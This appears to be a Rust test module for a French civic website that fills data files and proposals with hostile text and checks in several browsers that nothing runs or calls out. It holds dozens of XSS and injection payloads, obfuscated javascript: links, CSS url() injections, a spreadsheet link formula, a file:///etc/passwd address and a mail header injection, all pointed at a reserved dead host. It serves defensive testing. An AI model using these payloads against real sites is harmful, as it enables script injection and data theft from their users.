//! What a hostile file, link or press release is made of, and whether anything of it ran, was asked for or
//! stands in the page as more than text.

use std::fs;

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use thirtyfour::common::print::PrintParameters;
use xtask::dist_check;

use crate::engine::Engine;
use crate::{Page, Site, proposals};

/// An address that nothing may ever ask for. The name is reserved (RFC 6761): it leads nowhere.
pub const ELSEWHERE: &str = "mal.invalid";

/// Texts that are markup, handlers, templates and style sheets. What runs sets `hurt`.
pub const MARKUP: [&str; 24] = [
    "<script>globalThis.hurt='script'</script>",
    "<script src=https://mal.invalid/a.js></script>",
    "<img src=x onerror=\"globalThis.hurt='error'\">",
    "<img src=https://mal.invalid/pixel.png>",
    "\"><svg onload=\"globalThis.hurt='svg'\">",
    "' onmouseover='globalThis.hurt=1' x='",
    "\" onfocus=\"globalThis.hurt=1\" autofocus tabindex=\"0",
    "<iframe srcdoc=\"<script>parent.hurt='frame'</script>\"></iframe>",
    "<object data=https://mal.invalid/o></object><embed src=https://mal.invalid/e>",
    "<a href=\"javascript:globalThis.hurt='link'\">ici</a>",
    "<form action=https://mal.invalid/f><button>Envoyer</button></form>",
    "<style>*{background:url(https://mal.invalid/css)}</style>",
    "<link rel=stylesheet href=https://mal.invalid/s.css>",
    "<base href=https://mal.invalid/>",
    "<meta http-equiv=refresh content=\"0;url=https://mal.invalid/\">",
    "</title></textarea></option></template><script>globalThis.hurt='end'</script>",
    "<!--><script>globalThis.hurt='comment'</script-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hurt='math'>",
    "&lt;img src=x onerror=globalThis.hurt='entity'&gt;&#60;script&#62;",
    "{{constructor.constructor('globalThis.hurt=1')()}} ${globalThis.hurt=1} {name}",
    "](javascript:globalThis.hurt=1) ![x](https://mal.invalid/md.png) <javascript:hurt>",
    "=HYPERLINK(\"https://mal.invalid/\";\"ici\")",
    "\u{202e}txet\u{202c} \u{200b}javascript\u{200b}:globalThis.hurt=1",
    "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">globalThis.hurt='xml'</x:script>",
];

/// Addresses in every spelling of what may not be opened.
pub const ADDRESSES: [&str; 24] = [
    "javascript:globalThis.hurt=1",
    "JaVaScRiPt:globalThis.hurt=1",
    " javascript:globalThis.hurt=1",
    "\u{1}javascript:globalThis.hurt=1",
    "java\tscript:globalThis.hurt=1",
    "java\nscript:globalThis.hurt=1",
    "javascript\u{a0}:globalThis.hurt=1",
    "javascript&colon;globalThis.hurt=1",
    "javascript%3AglobalThis.hurt=1",
    "\u{ff4a}avascript:globalThis.hurt=1",
    "java\u{200b}script:globalThis.hurt=1",
    "javascript://exemple.fr/%0aglobalThis.hurt=1",
    "data:text/html,<script>parent.hurt=1</script>",
    "DATA:text/html;base64,PHNjcmlwdD5odXJ0PTE8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "blob:https://mal.invalid/1",
    "file:///etc/passwd",
    "view-source:javascript:hurt=1",
    "//mal.invalid/x",
    "\\\\mal.invalid\\x",
    "https://exemple.fr@mal.invalid/",
    "http:javascript:globalThis.hurt=1",
    "mailto:a@exemple.fr?body=x\r\nBcc: b@mal.invalid",
];

/// Colours that are no colours.
pub const COLOURS: [&str; 6] = [
    "#0b6e4f;}*{background:url(https://mal.invalid/css)}",
    "url(https://mal.invalid/accent)",
    "var(--x,url(https://mal.invalid/var))",
    "expression(globalThis.hurt=1)",
    "#0b6e4f/**/",
    "\u{ff03}0b6e4f",
];

/// Identifiers that look like others, or mean something to a script.
pub const IDENTIFIERS: [&str; 8] = [
    "__proto__",
    "constructor",
    "yb0madryf213n5pejryfdb\u{430}2f",
    "../../a",
    "\"><script>globalThis.hurt='id'</script>",
    "id onclick=hurt=1",
    "",
    "main",
];

/// Fields that say which thing it is; without them a file is refused and nothing is tried.
const KEPT: [&str; 6] = ["format", "version", "edition", "id", "parent", "insee"];

/// Fields whose value is one of a list, or has a shape of its own.
const CODES: [&str; 20] = [
    "kind",
    "status",
    "state",
    "lang",
    "theme",
    "department",
    "postcode",
    "start",
    "end",
    "as_of",
    "until",
    "verified_on",
    "date",
    "initiative",
    "communique",
    "reason",
    "at",
    "base",
    "created_at",
    "author",
];

/// Fields that hold an address.
const LINKS: [&str; 4] = ["url", "engage_url", "moved_to", "value"];

/// A document whose every text is hostile. `turn` decides which text stands where, so that several turns
/// put different ones in the same place. Codes and dates are spared in even turns, so that what they
/// lead to is drawn.
#[must_use]
pub fn poisoned(document: &Value, turn: usize) -> Value {
    let mut place = turn * 7;
    poison("", document, turn, &mut place)
}

fn poison(name: &str, value: &Value, turn: usize, place: &mut usize) -> Value {
    match value {
        _ if KEPT.contains(&name) => value.clone(),
        Value::Object(fields) => fields
            .iter()
            .map(|(name, value)| (name.clone(), poison(name, value, turn, place)))
            .collect(),
        Value::Array(all) => all.iter().map(|one| poison(name, one, turn, place)).collect(),
        Value::String(_) if CODES.contains(&name) && turn.is_multiple_of(2) => value.clone(),
        Value::String(_) | Value::Null => {
            *place += 1;
            let text = if name == "accent" {
                COLOURS[*place % COLOURS.len()]
            } else if LINKS.contains(&name) {
                ADDRESSES[*place % ADDRESSES.len()]
            } else {
                MARKUP[*place % MARKUP.len()]
            };
            json!(text)
        }
        other => other.clone(),
    }
}

/// A proposal whose every text is hostile, to an initiative that is published and to one that is not.
#[must_use]
pub fn proposal(turn: usize) -> Value {
    let text = |place: usize| json!(MARKUP[(turn * 5 + place) % MARKUP.len()]);
    let link = |place: usize| json!(ADDRESSES[(turn * 5 + place) % ADDRESSES.len()]);
    let fields = [
        ("title", json!(null), text(0)),
        ("summary", json!(null), text(1)),
        ("audience", json!(null), text(2)),
        ("practical", text(9), text(3)),
        (
            "organiser",
            json!(null),
            json!({ "name": text(4), "kind": text(5), "consent": true }),
        ),
        (
            "place",
            json!(null),
            json!({ "commune": text(6), "area": text(7), "insee": text(8) }),
        ),
        ("tags", json!(null), json!([text(9), text(10)])),
        ("theme", json!(null), text(11)),
        ("status", json!(null), text(12)),
        (
            "source",
            json!(null),
            json!({ "communique": text(13), "url": link(0) }),
        ),
        (
            "translations",
            json!(null),
            json!({ "en": { "title": text(14), "summary": text(15) } }),
        ),
        (
            "measures/m1",
            json!(null),
            json!({ "id": "m1", "kind": text(16), "value": 3, "unit": text(17) }),
        ),
        (
            "needs/n1",
            json!(null),
            json!({ "id": "n1", "kind": "materials", "what": text(18), "state": "open" }),
        ),
        (
            "contacts/c1",
            json!(null),
            json!({ "id": "c1", "kind": "web", "value": link(1), "label": text(19) }),
        ),
        (
            "contacts/c2",
            json!(null),
            json!({ "id": "c2", "kind": "social", "value": link(2), "label": text(20) }),
        ),
        (
            "contacts/c3",
            json!(null),
            json!({ "id": "c3", "kind": "email", "value": link(3), "label": text(21) }),
        ),
        (
            "contacts/c4",
            json!(null),
            json!({ "id": "c4", "kind": "phone", "value": link(4), "label": text(22) }),
        ),
        ("unknown", json!(null), json!({ "deep": [text(23), link(5)] })),
    ];
    // Where a code or a place is none, the whole change may be refused: these can always be accepted.
    let free: Vec<_> = fields
        .iter()
        .filter(|(path, ..)| ["title", "summary", "audience", "contacts/c1"].contains(path))
        .cloned()
        .collect();
    let name = format!("hostile-{turn}");
    let mut proposal = proposals::proposal(
        &name,
        MARKUP[turn % MARKUP.len()],
        &[(proposals::MARCK, &free), ("une-nouvelle", &fields)],
    );
    proposal["message"] = text(8);
    proposal
}

/// What is listened for from the first moment of each page.
const WATCH: &str = "globalThis.violations = [];
    addEventListener('securitypolicyviolation', (event) =>
        violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`), true);
    for (const name of ['alert', 'confirm', 'prompt', 'open']) globalThis[name] = () => { globalThis.hurt = name; };";

/// What of the page is more than text: scripts and frames, handlers, styles, links that may not be.
const LOOK: &str = "const found = [];
    // Firefox's driver looks from beside the page and sees its variables only so.
    const page = window.wrappedJSObject ?? window;
    if (typeof page.violations === 'undefined') found.push('nobody listens');
    if (typeof page.hurt !== 'undefined') found.push(`ran: ${page.hurt}`);
    found.push(...Array.from(page.violations ?? [], (one) => `stopped by the policy: ${one}`));
    const own = document.baseURI;
    for (const { name } of performance.getEntriesByType('resource'))
        if (![own, 'blob:', 'data:'].some((start) => name.startsWith(start))) found.push(`asked for ${name}`);
    for (const one of document.querySelectorAll('*')) {
        const name = one.localName;
        // The settings show the list as another site would frame it.
        const framed = name === 'iframe' && one.className === 'embed-preview' && one.src.startsWith(`${own}?vue=integree`);
        if (['iframe', 'object', 'embed', 'style', 'math'].includes(name) && !framed) found.push(`<${name}>`);
        // Data for search engines is no script: nothing runs it, and nothing of it can end its element.
        if (name === 'script' && one.type === 'application/ld+json') {
            if (one.textContent.includes('<') || one.attributes.length !== 1) found.push(one.outerHTML);
            JSON.parse(one.textContent);
        } else if (name === 'script' && (!one.src.startsWith(own) || one.textContent)) found.push(one.outerHTML);
        if (name === 'base' && !['./', '../'].includes(one.getAttribute('href'))) found.push(one.outerHTML);
        if (name === 'meta' && one.httpEquiv.toLowerCase() === 'refresh') found.push(one.outerHTML);
        for (const attribute of one.getAttributeNames()) {
            const value = one.getAttribute(attribute);
            if (attribute.startsWith('on')) found.push(`${attribute} of <${name}>`);
            if (attribute === 'style' && one !== document.documentElement) found.push(`style of <${name}>`);
            if (['src', 'srcset', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href'].includes(attribute)
                && name !== 'script' && !framed) found.push(`${attribute}=${value} of <${name}>`);
        }
        if (name === 'a' && one.hasAttribute('href')) {
            if (!['http:', 'https:', 'mailto:', 'tel:', 'sms:', 'blob:'].includes(one.protocol)) found.push(`a link of ${one.href}`);
            // A text may name an address, which then is a link; those of ADDRESSES are none.
            if (one.username || (one.hostname.endsWith('mal.invalid') && ['/x', '/1'].includes(one.pathname)))
                found.push(`a disguised link to ${one.href}`);
            if (one.origin !== location.origin && one.protocol.startsWith('http') && !(one.rel.includes('noopener')))
                found.push(`${one.href} without noopener`);
        }
    }
    const accent = getComputedStyle(document.documentElement).getPropertyValue('--site-accent').trim();
    if (!/^#[0-9a-f]{6}$/.test(accent)) found.push(`the colour ${accent}`);
    return found";

impl Page {
    /// Listens from now on, in each page from its first moment, for what the policy stops. Where the driver runs no
    /// script before a page's own, the pages of the site bring it, which must be a copy.
    ///
    /// # Errors
    /// When the browser refuses, or a page cannot be written.
    pub async fn watch(&self) -> Result<()> {
        match self.profile.engine() {
            Engine::Chromium => self.before_each_page(WATCH).await,
            Engine::Firefox | Engine::WebKit => self.site.brings_first(WATCH),
        }
    }

    /// How many of several turns the engine takes: all of them in Chromium, the first one in the others, whose part is
    /// what an engine does in a way of its own.
    #[must_use]
    pub fn turns(&self, all: usize) -> usize {
        if self.profile.engine() == Engine::Chromium {
            all
        } else {
            1
        }
    }

    /// Looks at the page: nothing ran, the policy had nothing to stop, and what was hostile is text.
    ///
    /// # Errors
    /// With everything that is more than text.
    pub async fn is_unharmed(&self, state: &str) -> Result<()> {
        let found = self.script(LOOK).await?;
        let found = found.as_array().context("no list")?;
        ensure!(found.is_empty(), "{state}: {found:?}");
        Ok(())
    }

    /// That nothing was asked of anybody but the site since the last look. Chromium's log names every request; in the
    /// other engines each look at a page has told of those that it made or that the policy stopped.
    ///
    /// # Errors
    /// With the first request that left.
    pub async fn asked_nobody_else(&self) -> Result<()> {
        if self.profile.engine() != Engine::Chromium {
            return Ok(());
        }
        let own = self.site.address("");
        for address in self.browser().requests().await? {
            let local = ["blob:", "data:", "chrome:"]
                .iter()
                .any(|scheme| address.starts_with(scheme));
            ensure!(local || address.starts_with(&own), "a request left for {address}");
        }
        Ok(())
    }

    /// Prints the page to nowhere, as the person's printer would. `WebKit`'s driver cannot print.
    ///
    /// # Errors
    /// When the browser refuses.
    pub async fn prints(&self) -> Result<()> {
        let printed = match self.profile.engine() {
            Engine::Chromium => self.printed().await?,
            Engine::Firefox => {
                self.browser()
                    .driver
                    .print_page(PrintParameters::default())
                    .await?
            }
            Engine::WebKit => return Ok(()),
        };
        ensure!(!printed.is_empty(), "nothing was printed");
        Ok(())
    }
}

impl Site {
    /// Makes every page of the copy that is served run a script before its own.
    fn brings_first(&self, script: &str) -> Result<()> {
        const NAME: &str = "watch.js";
        let folder = self.folder()?;
        fs::write(folder.join(NAME), script)?;
        for (path, content) in dist_check::files(folder)? {
            if path.ends_with("index.html") {
                let page = String::from_utf8(content)?;
                let (before, rest) = page.split_once("<base ").context("no base")?;
                let (base, after) = rest.split_once('>').context("no base")?;
                let page = format!("{before}<base {base}><script src=\"{NAME}\"></script>{after}");
                fs::write(folder.join(path), page)?;
            }
        }
        self.publish_worker(&self.worker()?)
    }
}
